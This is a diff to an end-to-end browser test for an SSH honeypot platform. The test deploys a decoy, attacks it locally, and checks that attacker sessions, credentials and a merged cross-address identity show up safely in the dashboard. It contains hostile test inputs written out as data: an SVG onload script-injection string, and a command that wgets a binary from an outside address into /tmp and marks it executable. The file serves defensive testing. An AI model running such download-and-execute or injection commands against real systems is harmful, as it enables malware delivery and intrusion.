@@ -1,7 +1,8 @@
 // The real `npm start` stack (control plane, dashboard, self-enrolled host agent, local runtime) in
 // Chromium: log in, change the password, deploy a decky from the UI, attack it with the real
 // OpenSSH client using hostile values, and see the event arrive live and the attacker, session and
-// credential on their pages, with nothing the attacker sent ever running in the page.
+// credential on their pages, with nothing the attacker sent ever running in the page; the same client
+// from two more addresses becomes one identity.
 import { execFile } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -24,8 +25,8 @@ const HOSTILE_CMD = "echo '<svg onload=window.__pwned=3>'; uname -a";
 const run = promisify(execFile);
 const haveTools = existsSync(CHROMIUM) && existsSync('/usr/bin/sshpass') && existsSync('/usr/bin/ssh');
 
-async function ssh(ip: string, port: number, user: string, password: string, cmd: string) {
-  const args = ['-p', password, 'ssh', '-p', String(port), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', '-o', 'ConnectTimeout=10', `${user}@${ip}`, cmd];
+async function ssh(ip: string, port: number, user: string, password: string, cmd: string, bindAddress?: string) {
+  const args = ['-p', password, 'ssh', ...(bindAddress ? ['-b', bindAddress] : []), '-p', String(port), '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'PreferredAuthentications=password', '-o', 'PubkeyAuthentication=no', '-o', 'NumberOfPasswordPrompts=1', '-o', 'ConnectTimeout=10', `${user}@${ip}`, cmd];
   return run('sshpass', args, { timeout: 30_000 }).catch((e: { stdout?: string; stderr?: string; code?: number }) => ({ stdout: e.stdout ?? '', stderr: e.stderr ?? '', code: e.code }));
 }
 
@@ -42,7 +43,7 @@ describe.skipIf(!haveTools)('the real npm start stack in Chromium', () => {
       port: 0,
       mtlsPort: 0,
       fleetIni: '[web-01]\nservices=http\n',
-      env: { ...process.env, DECNET_ADMIN_PASSWORD: INITIAL, DECNET_DATA_DIR: dir },
+      env: { ...process.env, DECNET_ADMIN_PASSWORD: INITIAL, DECNET_DATA_DIR: dir, DECNET_IDENTITY_INTERVAL_MS: '500' },
     });
     await stack.fleetRunning(60_000);
     browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
@@ -123,6 +124,23 @@ describe.skipIf(!haveTools)('the real npm start stack in Chromium', () => {
     await page.getByText(HOSTILE_PW.slice(0, 36)).first().waitFor();
     await page.getByText(HOSTILE_USER).first().waitFor();
     await shot(page, 'credentials');
+
+    // The same OpenSSH client and commands from two more source addresses: one identity (issue 15).
+    for (const src of ['127.0.0.2', '127.0.0.3']) {
+      const r = await ssh(endpoint!.host, endpoint!.port, 'root', ROOT_PW, 'wget http://198.51.100.77/bins/x86 -O /tmp/.x; chmod +x /tmp/.x', src);
+      expect(String(r.stdout) + String(r.stderr)).not.toContain('Permission denied');
+    }
+    await nav(page, 'Identities');
+    for (let i = 0; i < 60 && !(await page.getByRole('link', { name: /^[0-9a-f]{8}$/ }).count()); i++) {
+      await page.waitForTimeout(500);
+      await page.reload();
+    }
+    await page.getByRole('link', { name: /^[0-9a-f]{8}$/ }).first().click();
+    await page.getByRole('link', { name: '127.0.0.2', exact: true }).waitFor();
+    await page.getByRole('link', { name: '127.0.0.3', exact: true }).waitFor();
+    await page.getByRole('tab', { name: /Evidence/ }).click();
+    await page.getByText(/strong · infrastructure/).first().waitFor();
+    await shot(page, 'identity');
 
     // Nothing the attacker sent ran or was parsed as markup.
     expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
